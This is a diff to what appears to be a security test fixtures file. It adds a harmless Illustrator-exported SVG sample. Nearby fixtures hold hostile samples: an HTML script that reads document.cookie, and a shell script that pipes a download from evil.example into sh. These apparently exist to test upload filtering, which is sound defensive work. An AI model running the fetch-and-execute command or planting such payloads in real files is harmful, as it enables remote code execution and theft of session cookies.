@@ -124,6 +124,14 @@ HOSTILE_SVG = b"""<?xml version="1.0" encoding="UTF-8"?>
 </svg>
 """
 
+ILLUSTRATOR_SVG = b"""<?xml version="1.0" encoding="utf-8"?>
+<!-- Generator: Adobe Illustrator 27.0.0, SVG Export Plug-In -->
+<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
+<svg version="1.1" xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">
+  <rect width="10" height="10" fill="#336699"/>
+</svg>
+"""
+
 HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
 SHELL_SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
 
